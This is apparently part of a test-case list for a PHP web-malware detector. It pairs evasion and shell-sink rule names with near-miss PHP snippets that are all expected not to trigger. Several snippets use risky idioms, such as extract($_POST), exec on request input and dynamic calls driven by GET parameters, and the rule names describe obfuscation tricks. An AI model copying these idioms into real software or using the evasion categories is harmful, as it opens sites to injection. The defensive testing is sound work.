        plain("<?php\necho esc_html(${'_SERVER'}['HTTP_HOST']);\n$x = ${'_POST'}['a'];\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_BracedSuperglobalSink",
        embedded("<?php\necho esc_html(${'_SERVER'}['HTTP_HOST']);\n$x = ${'_POST'}['a'];\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_HeaderElementVarCall",
        plain(
            "<?php\n$h = getallheaders();\n$ip = $h['X-Forwarded-For'];\n$clean = sanitize($h['X-Real-IP']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_HeaderElementVarCall",
        embedded(
            "<?php\n$h = getallheaders();\n$ip = $h['X-Forwarded-For'];\n$clean = sanitize($h['X-Real-IP']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_ChrSuperglobalName",
        plain("<?php\n$sep = chr(95) . chr(45) . chr(95);\n$name = 'title';\necho $$name;\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_ChrSuperglobalName",
        embedded("<?php\n$sep = chr(95) . chr(45) . chr(95);\n$name = 'title';\necho $$name;\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_EvalOfExceptionMessage",
        plain(
            "<?php\ntry { run(); } catch (Exception $e) { error_log($e->getMessage()); assert_true($e->getMessage()); }\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_EvalOfExceptionMessage",
        embedded(
            "<?php\ntry { run(); } catch (Exception $e) { error_log($e->getMessage()); assert_true($e->getMessage()); }\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_ExtractThenVarCall",
        plain(
            "<?php\nextract($_POST);\n$name = trim($name);\n$data = $_POST;\nextract($data);\necho $title;\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_ExtractThenVarCall",
        embedded(
            "<?php\nextract($_POST);\n$name = trim($name);\n$data = $_POST;\nextract($data);\necho $title;\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        plain("<?php\n$r = new ReflectionFunction(strrev('nelrts'));\necho $r->getName();\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        embedded("<?php\n$r = new ReflectionFunction(strrev('nelrts'));\necho $r->getName();\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php\necho implode(', ', $_GET);\nexec('ls ' . implode(' ', array_map('escapeshellarg', $_POST)));\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php\necho implode(', ', $_GET);\nexec('ls ' . implode(' ', array_map('escapeshellarg', $_POST)));\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        plain(
            "<?php\n$allowed = ['system', 'user'];\n$a = $_GET['a'];\nif (in_array($a, $allowed, true)) {\n    $actions[$a]($_GET['id']);\n}\n"
        ),
        False,
    ),  # a role list that names 'system' next to a dispatch table (session-5 review): not a parked sink
]
